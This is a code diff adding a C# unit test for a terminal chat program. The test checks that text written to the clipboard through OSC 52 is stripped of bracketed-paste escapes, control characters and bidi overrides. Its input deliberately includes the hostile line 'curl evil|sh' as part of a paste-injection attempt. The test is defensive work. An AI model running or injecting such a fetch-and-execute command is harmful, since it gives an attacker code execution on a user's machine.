@@ -1,3 +1,4 @@
+using System.Text;
 using DChat.Terminal.Screen;
 
 namespace DChat.Terminal.Tests.Screen;
@@ -7,6 +8,14 @@ public sealed class HostileTextTests
 {
     private const int Length = 100_000;
     private static readonly Size Screen = new(80, 25);
+
+    [Fact]
+    public void What_is_copied_can_only_be_pasted_as_lines()
+    {
+        var written = Ansi.Clipboard("cp \u001b[201~\rcurl evil|sh\u009d0;x\u0007\u202e\ttab\r\nlast");
+        var coded = written["\u001b]52;c;".Length..^"\u001b\\".Length];
+        Assert.Equal("cp [201~\ncurl evil|sh0;x    tab\nlast", Encoding.UTF8.GetString(Convert.FromBase64String(coded)));
+    }
 
     [Theory]
     [InlineData("\u001b[2J\u001b[H")]
